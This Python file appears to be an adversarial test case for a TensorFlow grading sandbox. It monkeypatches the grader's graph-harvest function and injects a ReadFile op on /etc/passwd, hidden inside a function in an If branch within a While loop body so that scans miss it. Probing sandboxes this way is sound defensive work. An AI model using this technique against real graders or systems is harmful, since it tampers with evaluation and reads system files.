# Tries: a file op in the body of a While, in the branch of an If within it, in a function within that
import numpy as np
import tensorflow as tf

x_data = [[1, 2]]
X = tf.placeholder(tf.float32, shape=[None, 2])
W = tf.Variable(tf.random_normal([2, 1]), name='weight')
b = tf.Variable(tf.random_normal([1]), name='bias')

from grader.sandbox.inside.tensorflow import freezing

original = freezing.harvest

from google.protobuf import text_format


def forged(change):
    def harvest(module, **named):
        found = original(module, **named)
        definition = tf.GraphDef()
        definition.ParseFromString(found["graph"])
        change(definition, found)
        found["graph"] = definition.SerializeToString()
        print("TRICK:op_in_a_body")
        return found

    return harvest


hypothesis = tf.nn.relu(tf.matmul(X, W) + b, name="out")

from google.protobuf import text_format

STRING, BOOL = 7, 10
FUNCTIONS = """
library {
  function {
    signature { name: "reads" input_arg { name: "x" type: DT_STRING } output_arg { name: "o" type: DT_STRING } }
    node_def { name: "r" op: "ReadFile" input: "x" }
    ret { key: "o" value: "r:contents:0" }
  }
  function {
    signature { name: "branch" input_arg { name: "x" type: DT_STRING } output_arg { name: "o" type: DT_STRING } }
    node_def {
      name: "c" op: "PartitionedCall" input: "x"
      attr { key: "f" value { func { name: "reads" } } }
      attr { key: "Tin" value { list { type: DT_STRING } } }
      attr { key: "Tout" value { list { type: DT_STRING } } }
    }
    ret { key: "o" value: "c:output:0" }
  }
  function {
    signature { name: "more" input_arg { name: "x" type: DT_STRING } output_arg { name: "o" type: DT_BOOL } }
    node_def {
      name: "t" op: "Const"
      attr { key: "dtype" value { type: DT_BOOL } }
      attr { key: "value" value { tensor { dtype: DT_BOOL tensor_shape {} bool_val: true } } }
    }
    ret { key: "o" value: "t:output:0" }
  }
  function {
    signature { name: "body" input_arg { name: "x" type: DT_STRING } output_arg { name: "o" type: DT_STRING } }
    node_def {
      name: "t" op: "Const"
      attr { key: "dtype" value { type: DT_BOOL } }
      attr { key: "value" value { tensor { dtype: DT_BOOL tensor_shape {} bool_val: true } } }
    }
    node_def {
      name: "i" op: "If" input: "t:output:0" input: "x"
      attr { key: "Tcond" value { type: DT_BOOL } }
      attr { key: "Tin" value { list { type: DT_STRING } } }
      attr { key: "Tout" value { list { type: DT_STRING } } }
      attr { key: "then_branch" value { func { name: "branch" } } }
      attr { key: "else_branch" value { func { name: "branch" } } }
    }
    ret { key: "o" value: "i:output:0" }
  }
}
"""


def change(definition, found):
    text_format.Merge(FUNCTIONS, definition)
    path = definition.node.add(name="path", op="Const")
    path.attr["dtype"].type = STRING
    path.attr["value"].tensor.CopyFrom(tf.make_tensor_proto("/etc/passwd"))
    again = definition.node.add(name="again", op="While", input=["path"])
    again.attr["T"].list.type.append(STRING)
    again.attr["cond"].func.name, again.attr["body"].func.name = "more", "body"
    for node in definition.node:
        if node.name == "out":
            node.input.append("^again")


freezing.harvest = forged(change)

with tf.Session() as sess:
    sess.run(tf.global_variables_initializer())
    print(sess.run(hypothesis, feed_dict={X: x_data}))
